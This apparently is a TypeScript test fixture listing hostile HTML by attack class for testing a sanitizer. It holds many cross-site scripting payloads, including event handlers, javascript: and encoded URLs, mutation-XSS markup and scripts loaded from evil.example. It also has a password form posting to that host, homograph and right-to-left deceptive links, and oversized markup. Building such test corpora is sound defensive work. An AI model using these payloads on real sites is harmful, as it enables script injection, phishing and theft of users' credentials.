/**
 * Untrusted HTML by class of attack. Whatever of it runs calls `alert`. Each has something that an offer's text may
 * not have, so that a test that finds nothing wrong with it as it stands has found nothing out.
 */
const each = (names: string, write: (name: string) => string): string[] => names.split(' ').map(write);

/** What loads, runs, submits, covers, steers or is a wall; the first one reaches out, as every control needs one that does. */
const ELEMENTS =
  'img script style link meta base iframe object embed applet portal fencedframe webview image picture source video ' +
  'audio track bgsound canvas map area model svg math form input button textarea select option optgroup fieldset legend ' +
  'label output keygen datalist meter progress search dialog details summary template slot offer-wall x-card is-x ' +
  'marquee blink spacer multicol nobr big font center listing noscript noembed noframes xmp plaintext ruby rt rp menu ' +
  'menuitem element shadow content geolocation permission selectedcontent annotation-xml color-profile missing-glyph';

/** Those that fire by themselves somewhere, and those that wait for the person. */
const HANDLERS =
  'onclick onauxclick ondblclick onmouseover onmouseenter onmousedown onpointerdown onpointerrawupdate ontouchstart ' +
  'onwheel oncontextmenu onkeydown onkeyup onfocusin onfocus onblur oncopy oncut onpaste onselectstart ondragstart ' +
  'ondrop oninput onbeforeinput onchange onscroll onscrollend onload onerror ontoggle onbeforetoggle onclose oncancel ' +
  'onsubmit onformdata onslotchange onanimationstart ontransitionend onsecuritypolicyviolation onpageshow onbegin ' +
  'oncontentvisibilityautostatechange';

/** What styles, names, describes, loads or does something; also what libraries of the page read. */
const ATTRIBUTES = [
  'style class id name part exportparts slot is hidden inert popover anchor align width height color bgcolor background',
  'src srcset srcdoc poster data ping attributionsrc action formaction cite longdesc profile href xlink:href xml:base',
  'xml:lang xmlns role tabindex accesskey autofocus contenteditable draggable aria-label aria-labelledby aria-owns',
  'aria-live aria-modal aria-hidden itemscope itemprop translate spellcheck inputmode enterkeyhint nonce data-theme',
  'data-base-url ng-init v-html x-data x-on:click hx-get data-turbo-frame data-action data-bind data-remote',
];

/** Properties of documents, windows and forms, and ids of the wall. */
const CLOBBERED =
  'body head forms cookie location document customElements sessionStorage fetch trustedTypes currentScript OfferWall ' +
  'attributes parentNode nodeName innerHTML childNodes removeChild getAttributeNames getElementById querySelector ' +
  'createElement implementation createPolicy __proto__ constructor offer-wall offers';

/** What some engine has run, shown, started or fetched. */
const SCHEMES =
  'javascript JaVaScRiPt vbscript livescript mocha view-source:javascript feed jar data DATA blob filesystem file about ' +
  'intent ms-msdt search-ms itms-services chrome ftp ws sms skype';

export const attacks: Record<string, readonly string[]> = {
  'an element that is no prose': each(
    ELEMENTS,
    (tag) => `<${tag} src=https://evil.example/x onclick=alert(1)>x</${tag}>`,
  ),
  'an event handler': each(HANDLERS, (name) => `<p tabindex=0 ${name}="alert(1)">Text</p>`),
  'other attributes': ATTRIBUTES.map((names) => `<p ${names.replaceAll(' ', '="https://evil.example/x" ')}>Text</p>`),
  'a name that stands in for something else': each(
    CLOBBERED,
    (name) => `<form id=${name}><input name=${name} id=${name}></form><img name=${name}>`,
  ),
  'an address of another kind': each(SCHEMES, (scheme) => `<a href="${scheme}:alert(1)">x</a>`),

  // Whole, hidden, unclosed, or put together by whoever takes something out.
  'a script': [
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<script type=importmap>{"imports":{"preact":"https://evil.example/p.js"}}</script>',
    '<!-- --!><script>alert(1)</script>-->',
    '<script><!--<script>alert(1)</script>--></script><img src=x onerror=alert(1)>',
  ],
  'a handler in an odd tag': [
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<div/onmouseover=alert(1)>x</div>',
    '<p onclick\n=\nalert(1)>Text</p>',
    '<p onclick\u0000=alert(1) on\u0000click=alert(1) onclick=alert(1)>Text</p>',
    '<p a="x"onclick="alert(1)">Text</p>',
    '<p title="</p><img src=x onerror=alert(1)>" onclick=alert(1)>Text</p>',
  ],
  'a document of its own': [
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe/src="x"onload="alert(1)"/>',
    '<object type="text/html" data="javascript:alert(1)"></object>',
    '<frameset onload=alert(1)></frameset><img src=x onerror=alert(1)>',
    '<template shadowrootmode=open><style>:host{display:none}</style></template><p is=x>y</p>',
    '<template><template><img src=x onerror=alert(1)></template></template>',
  ],
  // SVG and MathML have scripts, links, animations and parsing rules of their own.
  'foreign content': [
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s /><text y=9>x</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg><svg/onload=alert(1)>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ],
  // What a sanitizer saw is then not what a browser shows.
  'markup that changes when it is parsed again': [
    ...each(
      'noscript xmp noembed noframes iframe textarea title style',
      (tag) => `<${tag}><a title="</${tag}><img src=x onerror=alert(1)>"></${tag}>`,
    ),
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--x--!><img src=x onerror=alert(1)>-->',
    '<style></style/<img src=x onerror=alert(1)>></style>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<table><caption><svg><desc><table><caption><img src=x onerror=alert(1)></caption></table></desc></svg></caption></table>',
    '<math><annotation-xml encoding="text/html"><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '</ <img src=x onerror=alert(1)>><img src=x onerror=alert(1)>',
    `${'<div>'.repeat(510)}<table><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `${'<r>'.repeat(505)}<a>${'<r>'.repeat(20)}<svg><desc><style><a title="</style><img src=x onerror=alert(1)>">`,
  ],
  // Broken markup: unclosed, crossed and doubled, as copied together by many hands.
  'broken markup': [
    '<img src="x" onerror="alert(1)"',
    '<img """><script>alert(1)</script>">',
    '<p onclick=alert(1) onclick=alert(2) ONCLICK=alert(3)>Text</p>',
    '<table><tr><a href="javascript:alert(1)">x</a></tr></table>',
    '</p onclick=alert(1)><br/onclick=alert(1)>',
    '<head><p id=a></head><body onclick=alert(1)><frameset onload=alert(1)>',
    '</div></div></section></dialog></offer-wall><img src=x onerror=alert(1)>',
  ],
  // What covers the page, hides parts of it, or tells somebody what is on it, asks for secrets, or steers the page.
  'something that acts on the page': [
    '<style>:host{display:none}.get{opacity:0}</style><style>@import "https://evil.example/x.css";</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/b)">x</p>',
    '<table background="https://evil.example/b.png" width=9999 bgcolor=red><tr><td nowrap height=9999>x</table>',
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=expect blocking=render href="#never">',
    '<form action="https://evil.example"><input type=password name=p><button>Sign in</button></form>',
    '<button commandfor=x command=show-modal popovertarget=x>x</button><dialog id=x popover>y</dialog>',
    '<base href="https://evil.example/" target=_top><a href="https://evil.example">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<picture><source srcset="https://evil.example/b.png"><img></picture>',
    '<a href="https://shop.example" ping="https://evil.example/ping" attributionsrc="https://evil.example/a">x</a>',
  ],
  // Other charsets, entities, NULs and half characters: what is one thing to a filter and another to a parser.
  'an encoding': [
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src=x onerror=alert(1)>',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be<img src=x onerror=alert(1)>',
    '<\u0000script>alert(1)</script\u0000><script>alert(1)</script>',
    '<img\u000bsrc=x onerror=alert(1)><img\u000csrc=x\u000conerror=alert(1)>',
    '<img/\u00a0src=x onerror=alert(1)>',
    '\u001b$B<img src=x onerror=alert(1)>\u001b(B',
    '<\u017fcript>alert(1)</\u017fcript><\u212ayle><img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>',
    '<a href=\u0000"https://evil.example"\u0000onclick=alert(1)>x</a>',
  ],
  // In every disguise that browsers see through.
  'an address that runs, or leads into the page': [
    ...['\t', '\n', '\r', '\0', '\u200b', '&NewLine;'].map((sign) => `<a href="java${sign}script:alert(1)">x</a>`),
    ...['\u0001', '\u001f ', ' &#14;  ', '\ufeff'].map((sign) => `<a href="${sign}javascript:alert(1)">x</a>`),
    '<a href="jav&Tab;ascript&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    '<a href="javascript://https://shop.example/%0Aalert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:,x" download=invoice.exe>x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="/logout">x</a>',
    '<area href="javascript:alert(1)" shape=default>',
    '<q cite="javascript:alert(1)">x</q>',
  ],
};

/** Hostile without one thing that is forbidden: only what they look like or how much they are. */
const tricks: Record<string, readonly string[]> = {
  // Links of allowed kinds that hide where they lead. What is left of them has to say it.
  'a link that deceives': [
    '<a href="https://bank.example%2Flogin@evil.example/">bank.example</a>',
    '<a href="https://user:password@evil.example/">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="https:evil.example/x">x</a>',
    '<a href="http:/logout">x</a>',
    '<a href="ht\ttps://evil.example/">x</a>',
    '<a href="\u00a0https://evil.example/">x</a>',
    '<a href="https://\u0440\u0430\u0443\u0440\u0430l.example/">paypal</a>',
    '<a href="https://evil\u3002example/">x</a>',
    '<a href="https://evil.example/\u202egpj.bank.example">\u202emoc.knab</a>',
    '<a href="https://2130706433:443/">x</a>',
    '<a href="mailto:help@bank.example?bcc=evil@evil.example&body=x">help</a>',
    '<a href="mailto:h\u0435lp@b\u0430nk.example">help@bank.example</a>',
    '<a href="https://evil.example/"><h3>Get offer</h3></a>',
  ],
  // Allowed markup in amounts that no honest text has, and text that is not what it looks like.
  'an excess': [
    '<div>'.repeat(3000),
    `<table>${'<tr><td>'.repeat(800)}`,
    '<a href="https://evil.example/">'.repeat(500),
    `<p>${'A'.repeat(50_000)}</p>`,
    `<a href="https://evil.example/${'a'.repeat(20_000)}">x</a>`,
    '<table><tr><td colspan=99999 rowspan=99999>x</td></tr></table>',
    '<ol start=2147483647><li>x<li value=-2147483648>y</ol>',
    `<p lang="${'x'.repeat(20_000)}">x</p>`,
    'Pay \u202e000,1\u202c points \u2066\u2067\u2068\u202a\u202b\u202d unclosed',
    `Free${'\u200b\u200c\u200d\u2060\ufeff\u3164\u2800'.repeat(500)}`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine of the page would run
    '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
    '\'"><!-- ]]> */ --> ` {name} {count|x} %s \\',
  ],
};

/** All of them by class, and what is hostile without one thing that is forbidden. */
export const hostile: Record<string, readonly string[]> = { ...attacks, ...tricks };
